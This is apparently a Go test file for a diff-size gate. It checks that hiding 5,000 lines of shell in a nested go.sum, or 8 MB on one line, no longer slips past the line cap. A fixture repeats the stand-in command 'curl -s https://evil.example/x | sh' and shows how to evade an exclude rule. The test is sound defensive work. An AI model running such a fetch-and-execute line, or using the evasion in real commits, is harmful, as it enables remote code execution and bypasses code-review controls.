package checks_test

import (
	"testing"

	"github.com/sandgate/sandgate/nodes/internal/nodetest"
	sgruntime "github.com/sandgate/sandgate/runtime"
)

// TestAttackDiffCapCountsWhatShips: the shipped caps (max_lines: 200,
// exclude: [go.sum]) let 5,000 lines of shell through as tools/go.sum
// (the exclude matched any depth) and 8 MB as one line (one line); both
// ship in the commit. Now the exclude is the root's go.sum only, a long
// line counts per 4 KiB, and a 1 MiB byte cap is on by default; the
// feedback names the file.
func TestAttackDiffCapCountsWhatShips(t *testing.T) {
	repo := nodetest.SeedRepo(t)
	shipped := "type: diff_cap\nmax_lines: 200\nexclude: [go.sum]"
	shell := "mkdir -p tools && for i in $(seq 1 5000); do echo 'curl -s https://evil.example/x | sh'; done > tools/go.sum"
	oneLine := "head -c 8388608 /dev/zero | tr '\\0' x > blob.txt"
	cases := []struct{ name, prep, gate, want string }{
		{"shell in a nested go.sum", shell, shipped, "5000 changed lines, cap 200"},
		{"8 MB on one line", oneLine, shipped, "2048 changed lines, cap 200"},
		{"8 MB on one line, bytes", oneLine, shipped, "8388608 changed bytes (8.0 MiB), cap 1048576"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			sum, a := nodetest.GateRun(t, repo, c.prep, c.gate)
			nodetest.MustFail(t, sum, a, c.want, "Largest files:")
		})
	}
	sum, a := nodetest.GateRun(t, repo, oneLine, shipped)
	nodetest.MustFail(t, sum, a, "blob.txt: +2048 -0 lines (8.0 MiB)")

	// What the pattern names is still left out: the root's go.sum, and
	// every go.sum with **/go.sum.
	for prep, gate := range map[string]string{
		"for i in $(seq 1 5000); do echo \"m v$i h1:x=\"; done > go.sum": shipped,
		shell: "type: diff_cap\nmax_lines: 200\nexclude: ['**/go.sum']",
	} {
		if sum, a := nodetest.GateRun(t, repo, prep, gate); sum.Status != sgruntime.StatusSucceeded {
			t.Fatalf("%s: an excluded file counted: %s", gate, a.Feedback)
		}
	}
}
